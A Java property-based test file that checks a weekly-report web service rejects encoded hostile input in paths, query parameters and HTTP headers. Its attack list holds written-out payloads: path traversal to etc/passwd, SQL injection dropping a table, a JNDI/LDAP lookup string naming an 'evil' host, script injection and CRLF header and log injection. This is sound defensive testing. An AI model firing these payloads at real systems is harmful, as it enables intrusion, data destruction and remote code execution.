package dev.weekline.report;

import static org.assertj.core.api.Assertions.assertThat;

import dev.weekline.problem.Problem;
import java.io.IOException;
import java.net.Socket;
import java.net.SocketException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.assertj.core.api.SoftAssertions;

/** Text that is no text, in every place where a caller may write some. */
class EncodingAttacksTest {

    private static final Path LOG = Path.of("target", "test-run.log");

    /** How a line of the log begins, and how one that belongs to the line before does. */
    private static final Pattern LINE = Pattern.compile(
            "^(\\d\\d:\\d\\d:\\d\\d\\.\\d{3} (TRACE|DEBUG|INFO|WARN|ERROR) +\\[[^]\\r\\n]*] [\\w.$]+: .*|\\t.*|Caused by: .*|[a-z][\\w.$]*(: .*)?|)$");

    private static final String FAKE = "12:00:00.000 ERROR [main] dev.weekline.Fake: everything is lost";

    private static final String ENCODED =
            FAKE.replace(" ", "%20").replace("[", "%5B").replace("]", "%5D");

    private static final List<String> ATTACKS = List.of(
            "%00",
            "a%00b",
            "%0d%0a" + ENCODED,
            "%0A" + ENCODED,
            "%250d%250aX",
            "%2500",
            "%C0%AF%C0%AE",
            "%c0%80",
            "%ED%A0%80",
            "%F4%90%80%80",
            "%FF%FE",
            "%E2%80%A8" + ENCODED,
            "%C2%85x",
            "%EF%BB%BFx",
            "%E2%80%AEx",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2f",
            "..%5c..%5c",
            "....//",
            "%252e%252e%252f",
            "%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%95-W%EF%BC%93%EF%BC%99",
            "%D9%A2%D9%A0%D9%A2%D9%A5-W%D9%A3%D9%A9",
            "act_%D9%A1%D9%A2%D9%A3",
            "'%20OR%20'1'='1",
            "%27;DROP%20TABLE%20ad_account--",
            "$%7Bjndi:ldap://evil/x%7D",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "%25s%25n",
            "x".repeat(3_000),
            "%F0%9F%92%A9");

    @SuppressWarnings("NullAway") // Made before the first property.
    private static TestService service;

    @BeforeContainer
    static void start() {
        service = TestService.start(Map.of(), TestService.account("belmonte"), TestService.account("hotel-lumen"));
        service.json("/reports/weekly/2025-W39?account=belmonte");
    }

    @AfterContainer
    static void stop() throws IOException {
        service.close();
        try (var lines = Files.lines(LOG)) {
            assertThat(lines.filter(line -> !LINE.matcher(line).matches())).isEmpty();
        }
    }

    @Example
    void whatIsWrittenInAPathOrAParameterIsAProblemThatNamesIt() {
        var softly = new SoftAssertions();
        for (var attack : ATTACKS) {
            places(attack).forEach((path, field) -> assertProblem(softly, path, field));
        }
        softly.assertAll();
    }

    @Example
    void aHeaderThatBreaksHttpIsAProblemAndAnyOtherDoesNoHarm() throws IOException {
        for (var name :
                List.of("Prefer", "X-Request-Id", "Authorization", "If-None-Match", "Accept", "Cache-Control")) {
            for (var value : List.of("a\r\nX-Injected: 1", "a\nb", "a\rb", "a\0b", "\u0001", "wait=1\0", "\u007f")) {
                var answer = raw(name, value);
                assertThat(answer).as(name).doesNotContainIgnoringCase("\r\nX-Injected");
                assertThat(answer).as(name).doesNotContain("HTTP/1.1 5");
            }
            for (var value : List.of("a\nb", "a\rb", "a\0b")) {
                assertThat(raw(name, value))
                        .as(name)
                        .startsWith("HTTP/1.1 400 ")
                        .contains(Problem.MEDIA_TYPE);
            }
            assertThat(raw(name, "x".repeat(17_000))).as(name).startsWith("HTTP/1.1 431 ");
            for (var value :
                    List.of("%0d%0a" + FAKE, "\u00e4\u00ff", "wait=\u0661", "\"".repeat(500), "x".repeat(5_000))) {
                assertThat(raw(name, value)).as(name).doesNotContain("HTTP/1.1 5", "Fake");
            }
        }
    }

    @Property(tries = 300)
    void nothingThatCanBeWrittenIsAFault(@ForAll("texts") String text) {
        var softly = new SoftAssertions();
        places(text).keySet().forEach(path -> {
            var answer = service.send(service.direct(path).GET().build());
            softly.assertThat(answer.statusCode()).as(path).isBetween(200, 499);
        });
        softly.assertAll();
    }

    @Provide
    Arbitrary<String> texts() {
        return Arbitraries.integers()
                .between(0, 255)
                .list()
                .ofMinSize(1)
                .ofMaxSize(12)
                .map(bytes -> bytes.stream().map("%%%02X"::formatted).reduce("", String::concat));
    }

    /** Each place, and the field that is named where it is the matter. */
    private static Map<String, String> places(String text) {
        var week = "/reports/weekly/";
        return Map.ofEntries(
                Map.entry(week + text.replace("/", "%2f") + "?account=belmonte", "week"),
                Map.entry(week + "2025-W39?account=" + text, "account"),
                Map.entry(week + "2025-W39/campaigns?account=" + text, "account"),
                Map.entry(week + "2025-W39/" + text.replace("/", "%2f") + "?account=belmonte", "section"),
                Map.entry(week + "2025-W39/campaigns?account=belmonte&cursor=" + text, "cursor"),
                Map.entry(week + "2025-W39/campaigns?account=belmonte&sort=" + text, "sort"),
                Map.entry(week + "2025-W39/campaigns?account=belmonte&limit=" + text, "limit"),
                Map.entry(week + "2025-W39?account=belmonte&include=" + text, "include"),
                Map.entry(week + "2025-W39?account=belmonte&rows=" + text, "rows"),
                Map.entry(week.substring(0, week.length() - 1) + "?account=belmonte&from=" + text, "from"),
                Map.entry(week + "2025-W39/revisions?account=belmonte&before=" + text, "before"),
                Map.entry("/accounts/" + text.replace("/", "%2f"), "account"),
                Map.entry("/accounts/" + text.replace("/", "%2f") + "/kpis", "account"),
                Map.entry("/operations/" + text.replace("/", "%2f"), "id"));
    }

    private static void assertProblem(SoftAssertions softly, String path, String field) {
        var answer = service.send(service.direct(path).GET().build());
        softly.assertThat(answer.statusCode()).as(path).isBetween(400, 499);
        softly.assertThat(answer.headers().firstValue("Content-Type").orElse(""))
                .as(path)
                .startsWith(Problem.MEDIA_TYPE);
        if (answer.headers().firstValue("Content-Type").orElse("").startsWith(Problem.MEDIA_TYPE)) {
            var problem = TestService.json(answer);
            // What makes a path that does not exist is no input of one that does.
            if (!problem.at("/type").asText().equals("/problems/not-found")) {
                softly.assertThat(problem.at("/field").asText()).as(path).isEqualTo(field);
            }
        }
        softly.assertThat(answer.body()).as(path).doesNotContain("Exception").hasSizeLessThan(5_000);
    }

    private static String raw(String name, String value) throws IOException {
        var others = Stream.of("Host: x", "Connection: close", "Authorization: Bearer " + TestService.KEY)
                .filter(line -> !line.startsWith(name + ":"))
                .reduce("", (all, line) -> all + line + "\r\n");
        try (var socket = new Socket(
                service.weekline.address().getHost(), service.weekline.address().getPort())) {
            socket.setSoTimeout(10_000);
            try {
                socket.getOutputStream()
                        .write(("GET /reports/weekly/2025-W39?account=belmonte&rows=1 HTTP/1.1\r\n" + others + name
                                        + ": " + value + "\r\n\r\n")
                                .getBytes(StandardCharsets.ISO_8859_1));
            } catch (SocketException hungUp) {
                // What it has said is read nevertheless.
            }
            return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
